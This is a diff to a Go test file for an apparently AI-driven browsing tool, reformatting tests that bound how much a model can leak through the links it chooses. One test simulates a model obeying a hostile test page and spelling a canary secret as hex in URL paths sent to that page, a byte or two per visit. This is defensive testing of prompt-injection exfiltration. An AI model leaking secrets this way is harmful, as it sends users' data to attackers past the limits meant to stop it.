@@ -15,8 +15,8 @@ import (
 	"github.com/stretchr/testify/require"
 )
 
-// bitsPerVisit is how much a choice says at most to a site: which of its addresses on the last pages is fetched, which of those that it lists,
-// whether it is searched, or nothing.
+// bitsPerVisit is how much a choice says at most to a site: which of its addresses on the last pages is
+// fetched, which of those that it lists, whether it is searched, or nothing.
 func bitsPerVisit() int {
 	return int(math.Ceil(math.Log2(float64(origin.MaxPages*origin.MaxLinks + origin.MaxListed + 2))))
 }
@@ -32,7 +32,8 @@ func TestTheDocumentationNamesTheBits(t *testing.T) {
 		fmt.Sprintf("%d visits, %d bits", origin.MaxFoundVisits, origin.MaxFoundVisits*bits),
 		fmt.Sprintf("%d visits, %d bits", origin.MaxFollowed, origin.MaxFollowed*bits),
 		fmt.Sprintf("%d visits, %d bits", origin.MaxNamedVisits, origin.MaxNamedVisits*bits),
-		fmt.Sprintf("first %d addresses", origin.MaxLinks), fmt.Sprintf("last %d pages", origin.MaxPages), fmt.Sprintf("at most %d bits, or %d bytes", origin.MaxFollowed*bits, origin.MaxFollowed*bits/8),
+		fmt.Sprintf("first %d addresses", origin.MaxLinks), fmt.Sprintf("last %d pages", origin.MaxPages),
+		fmt.Sprintf("at most %d bits, or %d bytes", origin.MaxFollowed*bits, origin.MaxFollowed*bits/8),
 	} {
 		assert.Contains(t, string(data), said)
 	}
@@ -59,13 +60,14 @@ func evilSite(t *testing.T) (url string, asked func() []string) {
 	return s.URL, func() []string { return paths }
 }
 
-// TestAModelThatLeaksByItsChoice obeys a page that has it spell a secret by the links that it follows, two bytes a visit, and as many as it
-// can where that is refused.
+// TestAModelThatLeaksByItsChoice obeys a page that has it spell a secret by the links that it follows, two
+// bytes a visit, and as many as it can where that is refused.
 func TestAModelThatLeaksByItsChoice(t *testing.T) {
 	if testing.Short() {
 		t.Skip("one goroutine works for long")
 	}
-	secret := []byte("CANARY-7f3a9c2e41b8d605 and the whole of the letter that goes with it, twice over, because it is long")
+	secret := []byte("CANARY-7f3a9c2e41b8d605 and the whole of the letter that goes with it, twice over, " +
+		"because it is long")
 	for name, c := range map[string]struct {
 		name    func(b *bench, evil string)
 		visits  int
@@ -80,8 +82,11 @@ func TestAModelThatLeaksByItsChoice(t *testing.T) {
 			_, err := b.w.KeepHits([]origin.Hit{{URL: evil + "/start"}})
 			require.NoError(b.t, err)
 		}, origin.MaxFoundVisits, false},
-		"a site that the person named": {func(b *bench, evil string) { require.NoError(b.t, b.w.Said("Begin at "+evil+"/start")) }, origin.MaxNamedVisits, false},
-		"the control, any address":     {func(b *bench, _ string) { b.kit.AnyURL = true }, origin.MaxStrangeVisits, true},
+		"a site that the person named": {func(b *bench, evil string) {
+			require.NoError(b.t, b.w.Said("Begin at "+evil+"/start"))
+		}, origin.MaxNamedVisits, false},
+		"the control, any address": {func(b *bench, _ string) { b.kit.AnyURL = true },
+			origin.MaxStrangeVisits, true},
 	} {
 		t.Run(name, func(t *testing.T) {
 			b := newBench(t)
@@ -90,12 +95,15 @@ func TestAModelThatLeaksByItsChoice(t *testing.T) {
 			require.Contains(t, b.one("visit_url", args{"url": evil + "/start"}), "Part 1 of")
 			wide, refused := 0, ""
 			for i := 0; i+1 < len(secret); i += 2 {
-				if !strings.Contains(b.one("visit_url", args{"url": fmt.Sprintf("%s/l/%02x%02x", evil, secret[i], secret[i+1])}), "Error: ") {
+				if !strings.Contains(b.one("visit_url",
+					args{"url": fmt.Sprintf("%s/l/%02x%02x", evil, secret[i], secret[i+1])}), "Error: ") {
 					wide++
 				}
 			}
-			for i := 0; i < 2*origin.MaxNamedVisits && refused == ""; i++ { // what is left to it: a byte a visit
-				said := b.one("visit_url", args{"url": fmt.Sprintf("%s/l/00%02x", evil, secret[i%len(secret)]), "again": true})
+			// what is left to it: a byte a visit
+			for i := 0; i < 2*origin.MaxNamedVisits && refused == ""; i++ {
+				said := b.one("visit_url",
+					args{"url": fmt.Sprintf("%s/l/00%02x", evil, secret[i%len(secret)]), "again": true})
 				if strings.Contains(said, "so it is not visited") { // the page was read too long ago
 					said = b.one("visit_url", args{"url": evil + "/start", "again": true})
 				}
